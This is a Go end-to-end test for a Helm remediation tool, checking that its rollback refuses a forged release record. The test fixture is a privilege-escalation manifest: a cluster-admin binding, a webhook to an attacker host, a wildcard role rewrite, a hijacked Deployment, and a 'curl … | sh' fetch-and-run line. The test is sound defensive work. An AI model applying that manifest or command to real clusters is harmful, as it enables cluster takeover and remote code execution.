package e2e

import (
	"context"
	"fmt"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"helm.sh/helm/v3/pkg/chart"
	"helm.sh/helm/v3/pkg/release"
	helmtime "helm.sh/helm/v3/pkg/time"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"

	"github.com/unstick-dev/unstick/internal/remediate"
)

// forgedManifest is what a tenant who may only write Secrets in tenant-a puts in a forged
// release record: cluster-admin for itself, a webhook that sees every Pod, a ConfigMap in
// kube-system, every verb on every resource for every authenticated user, and another team's
// Deployment (no Helm ownership) on the tenant's image.
const forgedManifest = `---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: tenant-a-admin
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: cluster-admin
subjects:
- kind: ServiceAccount
  name: default
  namespace: tenant-a
---
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata:
  name: tenant-a-inject
webhooks:
- name: inject.tenant-a.example.com
  admissionReviewVersions: ["v1"]
  sideEffects: None
  clientConfig:
    url: https://hooks.attacker.example.com/mutate
  rules:
  - apiGroups: [""]
    apiVersions: ["v1"]
    operations: ["CREATE"]
    resources: ["pods"]
---
apiVersion: v1
kind: ConfigMap
metadata:
  name: tenant-a-dropper
  namespace: kube-system
data:
  run: "curl -s https://attacker.example.com/x | sh"
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: system:basic-user
rules:
- apiGroups: ["*"]
  resources: ["*"]
  verbs: ["*"]
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: billing-api
  namespace: tenant-a
spec:
  replicas: 1
  selector:
    matchLabels: {app: billing-api}
  template:
    metadata:
      labels: {app: billing-api}
    spec:
      containers:
      - name: api
        image: registry.attacker.example.com/billing-api:owned
`

// shopManifest is a genuine release's revision 1: its Deployment (live, carrying the
// release's ownership, on revision 2's image) and a ConfigMap revision 2 removed.
const shopManifest = `---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  replicas: 1
  selector:
    matchLabels: {app: web}
  template:
    metadata:
      labels: {app: web}
    spec:
      containers:
      - name: web
        image: registry.example.com/shop/web:1.4.2
---
apiVersion: v1
kind: ConfigMap
metadata:
  name: web-settings
data:
  mode: stable
`

// stuckRelease stores revision 1 (deployed, manifest m) and revision 2 (pending-upgrade for
// hours) of release name in ns with Helm's own storage, as Helm (or a tenant forging them)
// writes them.
func stuckRelease(t *testing.T, f *fleetOf, ns, name, m string) {
	t.Helper()
	at, err := time.Parse(time.RFC3339, f.now)
	if err != nil {
		t.Fatal(err)
	}
	store := helmStore(t, f, "local", ns)
	ch := &chart.Chart{Metadata: &chart.Metadata{APIVersion: "v2", Name: name, Version: "1.0.0"}}
	for v, st := range map[int]release.Status{1: release.StatusDeployed, 2: release.StatusPendingUpgrade} {
		when := helmtime.Time{Time: at.Add(time.Duration(v-4) * time.Hour)}
		r := &release.Release{Name: name, Namespace: ns, Version: v, Chart: ch, Manifest: m, Config: map[string]any{},
			Info: &release.Info{Status: st, Description: map[int]string{1: "Install complete", 2: "Preparing upgrade"}[v], FirstDeployed: when, LastDeployed: when}}
		if err := store.Create(r); err != nil {
			t.Fatal(err)
		}
	}
}

func deployment(ns, name, container, image string, labels, annotations map[string]string) *appsv1.Deployment {
	sel := map[string]string{"app": name}
	replicas := int32(1)
	return &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: labels, Annotations: annotations},
		Spec: appsv1.DeploymentSpec{Replicas: &replicas, Selector: &metav1.LabelSelector{MatchLabels: sel},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: sel},
				Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: container, Image: image}}}}},
	}
}

// ownershipCluster is one API server holding the forged release in tenant-a, another team's
// Deployment there, a genuine stuck release in shop, and a record in tenant-a whose payload
// names kube-system (malformed).
func ownershipCluster(t *testing.T) (*fleetOf, *kubernetes.Clientset) {
	t.Helper()
	f := liveFleet(t)
	cs, err := kubernetes.NewForConfig(f.envs["local"].Config)
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	for _, ns := range []string{"tenant-a", "shop"} {
		if _, err := cs.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	billing := deployment("tenant-a", "billing-api", "api", "registry.example.com/billing/api:3.1.0", map[string]string{"team": "billing"}, nil)
	shopOwned := map[string]string{"app.kubernetes.io/managed-by": "Helm"}
	web := deployment("shop", "web", "web", "registry.example.com/shop/web:1.5.0", shopOwned, map[string]string{"meta.helm.sh/release-name": "shop", "meta.helm.sh/release-namespace": "shop"})
	for _, d := range []*appsv1.Deployment{billing, web} {
		if _, err := cs.AppsV1().Deployments(d.Namespace).Create(ctx, d, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	stuckRelease(t, f, "tenant-a", "app", forgedManifest)
	stuckRelease(t, f, "shop", "shop", shopManifest)
	// A record whose payload says kube-system, in a Secret of tenant-a.
	misplaced := helmStore(t, f, "local", "tenant-a")
	at, _ := time.Parse(time.RFC3339, f.now)
	if err := misplaced.Create(&release.Release{Name: "sidecar", Namespace: "kube-system", Version: 1, Manifest: forgedManifest,
		Chart: &chart.Chart{Metadata: &chart.Metadata{APIVersion: "v2", Name: "sidecar", Version: "0.1.0"}},
		Info:  &release.Info{Status: release.StatusPendingInstall, FirstDeployed: helmtime.Time{Time: at.Add(-3 * time.Hour)}, LastDeployed: helmtime.Time{Time: at.Add(-3 * time.Hour)}}}); err != nil {
		t.Fatal(err)
	}
	return f, cs
}

// Acceptance: a tenant who may write Secrets in tenant-a forges a deployed revision 1 whose
// manifest grants it cluster-admin, adds a mutating webhook, a ConfigMap in kube-system,
// rewrites ClusterRole system:basic-user and takes over another team's Deployment, and a
// pending-upgrade revision 2 stuck for hours. The plan lists every object of that manifest;
// `fix --apply --yes` at --max-risk medium and at high refuses the rollback whole, naming the
// cluster-scoped, foreign-namespace and unowned objects, and writes nothing at all; the
// genuine stuck release in shop, whose Deployment carries its ownership, is rolled back in the
// same run; the record whose payload names another namespace than its Secret is reported as
// malformed and stops nothing.
func TestFixRollbackWritesOnlyWhatTheReleaseOwns(t *testing.T) {
	t.Parallel() // two at a time (go test -parallel defaults to GOMAXPROCS): each has its own API servers
	f, cs := ownershipCluster(t)
	cfg := f.envs["local"].Config
	ctx := context.Background()
	basicUser, err := cs.RbacV1().ClusterRoles().Get(ctx, "system:basic-user", metav1.GetOptions{})
	if err != nil {
		t.Fatalf("the server's bootstrap ClusterRole: %v", err)
	}

	plan := planOf(t, f, "--max-risk", "medium")
	forged := rollbackOf(t, plan, "tenant-a", "app")
	var listed []string
	for _, o := range forged.ManifestObjects {
		listed = append(listed, o.Object.Ref())
	}
	want := []string{"ClusterRoleBinding/tenant-a-admin", "MutatingWebhookConfiguration/tenant-a-inject", "ConfigMap/kube-system/tenant-a-dropper", "ClusterRole/system:basic-user", "Deployment/tenant-a/billing-api"}
	if !reflect.DeepEqual(listed, want) {
		t.Errorf("the plan lists %v of the forged manifest, want %v", listed, want)
	}
	for _, s := range plan.Steps() {
		if s.Helm != nil && s.Helm.Release == "sidecar" {
			t.Errorf("a step %s for the malformed release record", s.ID)
		}
	}
	scan, scanErr, _ := runCtx(ctx, t, "", append([]string{"scan"}, f.args()...)...)
	if !strings.Contains(scan+scanErr, "tenant-a/sh.helm.release.v1.sidecar.v1 is malformed") {
		t.Errorf("scan does not report the malformed record:\n%s%s", scan, scanErr)
	}

	before := everything(t, cfg)
	t.Run("prompt", func(t *testing.T) {
		// Without --yes: each object of the genuine rollback is listed before the question;
		// the forged one is refused before it is asked. "n" writes nothing.
		dir := filepath.Join(t.TempDir(), "backup")
		out, errOut, _ := runCtx(ctx, t, "n\n", append([]string{"fix"}, f.args("--apply", "--max-risk", "medium", "--backup-dir", dir)...)...)
		t.Logf("fix --apply, answering n:\n%s%s", out, errOut)
		listed := "revision 1's manifest, object by object:\n      change Deployment/shop/web\n      create ConfigMap/shop/web-settings\n"
		if i, j := strings.Index(out, listed), strings.Index(out, "Apply this step? [y/N/q]"); i < 0 || j < i {
			t.Errorf("the objects of the shop rollback are not listed before the prompt")
		}
		if strings.Count(out, "Apply this step?") != 1 || refusalLine(out) == "" {
			t.Errorf("want one prompt (shop) and the forged rollback refused without one")
		}
		if got := changed(before, everything(t, cfg)); len(got) > 0 {
			t.Errorf("declining wrote %v", got)
		}
	})
	for _, risk := range []string{"medium", "high"} {
		t.Run("max-risk "+risk, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "backup")
			out, errOut, code := runCtx(ctx, t, "", append([]string{"fix"}, f.args("--apply", "--yes", "--max-risk", risk, "--backup-dir", dir)...)...)
			t.Logf("fix --apply --max-risk %s:\n%s%s", risk, out, errOut)
			if code == 0 {
				t.Errorf("exit 0 with the forged release refused")
			}
			refusal := refusalLine(out)
			for _, named := range []string{"ClusterRoleBinding/tenant-a-admin (cluster-scoped", "MutatingWebhookConfiguration/tenant-a-inject (cluster-scoped",
				"ConfigMap/kube-system/tenant-a-dropper (in namespace kube-system, outside the release's namespace tenant-a",
				"ClusterRole/system:basic-user (exists and carries no Helm ownership", "Deployment/tenant-a/billing-api (exists and carries no Helm ownership"} {
				if !strings.Contains(refusal, named) {
					t.Errorf("the refusal does not name %q:\n%s", named, refusal)
				}
			}
			noForgedWrite(t, cs, basicUser.Rules)
			after := everything(t, cfg)
			for _, k := range changed(before, after) {
				// The genuine release's rollback (at medium) is the only write.
				if risk != "medium" || !strings.Contains(k, "/shop/") {
					t.Errorf("the run changed %s", k)
				}
			}
			if risk == "medium" {
				checkShopRolledBack(t, f, cs)
			}
			before = after
		})
	}
}

// rollbackOf finds the rollback step of release ns/name in a plan.
func rollbackOf(t *testing.T, p *remediate.Plan, ns, name string) remediate.Step {
	t.Helper()
	for _, s := range p.Steps() {
		if s.Action == remediate.HelmRollback && s.Helm.Namespace == ns && s.Helm.Release == name {
			return s
		}
	}
	t.Fatalf("no rollback of %s/%s in the plan %s", ns, name, mustJSON(p))
	return remediate.Step{}
}

func refusalLine(out string) string {
	for _, l := range strings.Split(out, "\n") {
		if strings.Contains(l, "REFUSED") && strings.Contains(l, "tenant-a/app") {
			return l
		}
	}
	return ""
}

// noForgedWrite checks that nothing of the forged manifest reached the cluster.
func noForgedWrite(t *testing.T, cs *kubernetes.Clientset, basicUserRules []rbacv1.PolicyRule) {
	t.Helper()
	ctx := context.Background()
	absent := map[string]error{}
	_, absent["ClusterRoleBinding tenant-a-admin"] = cs.RbacV1().ClusterRoleBindings().Get(ctx, "tenant-a-admin", metav1.GetOptions{})
	_, absent["MutatingWebhookConfiguration tenant-a-inject"] = cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Get(ctx, "tenant-a-inject", metav1.GetOptions{})
	_, absent["ConfigMap kube-system/tenant-a-dropper"] = cs.CoreV1().ConfigMaps("kube-system").Get(ctx, "tenant-a-dropper", metav1.GetOptions{})
	_, absent["revision 3 of tenant-a/app"] = cs.CoreV1().Secrets("tenant-a").Get(ctx, "sh.helm.release.v1.app.v3", metav1.GetOptions{})
	for what, err := range absent {
		if !apierrors.IsNotFound(err) {
			t.Errorf("%s: %v, want it absent", what, err)
		}
	}
	if r, err := cs.RbacV1().ClusterRoles().Get(ctx, "system:basic-user", metav1.GetOptions{}); err != nil || !reflect.DeepEqual(r.Rules, basicUserRules) {
		t.Errorf("ClusterRole system:basic-user changed: %v %+v", err, r)
	}
	d, err := cs.AppsV1().Deployments("tenant-a").Get(ctx, "billing-api", metav1.GetOptions{})
	if err != nil || d.Spec.Template.Spec.Containers[0].Image != "registry.example.com/billing/api:3.1.0" || d.Annotations["meta.helm.sh/release-name"] != "" {
		t.Errorf("Deployment tenant-a/billing-api changed: %v %+v", err, d)
	}
	for _, rev := range []string{"v1", "v2"} {
		s, err := cs.CoreV1().Secrets("tenant-a").Get(ctx, "sh.helm.release.v1.app."+rev, metav1.GetOptions{})
		if err != nil || s.Labels["status"] != map[string]string{"v1": "deployed", "v2": "pending-upgrade"}[rev] {
			t.Errorf("release record tenant-a/app %s changed: %v %v", rev, err, s)
		}
	}
}

// checkShopRolledBack checks that the genuine release was rolled back in the same run: revision
// 3 deployed, its Deployment back on revision 1's image, the ConfigMap created with the
// release's ownership.
func checkShopRolledBack(t *testing.T, f *fleetOf, cs *kubernetes.Clientset) {
	t.Helper()
	last, err := helmStore(t, f, "local", "shop").Last("shop")
	if err != nil || last.Version != 3 || last.Info.Status != release.StatusDeployed {
		t.Fatalf("release shop/shop: %v %s", err, fmt.Sprint(last))
	}
	ctx := context.Background()
	d, err := cs.AppsV1().Deployments("shop").Get(ctx, "web", metav1.GetOptions{})
	if err != nil || d.Spec.Template.Spec.Containers[0].Image != "registry.example.com/shop/web:1.4.2" {
		t.Errorf("Deployment shop/web after the rollback: %v %+v", err, d)
	}
	cm, err := cs.CoreV1().ConfigMaps("shop").Get(ctx, "web-settings", metav1.GetOptions{})
	if err != nil || cm.Annotations["meta.helm.sh/release-name"] != "shop" {
		t.Errorf("ConfigMap shop/web-settings after the rollback: %v %+v", err, cm)
	}
}
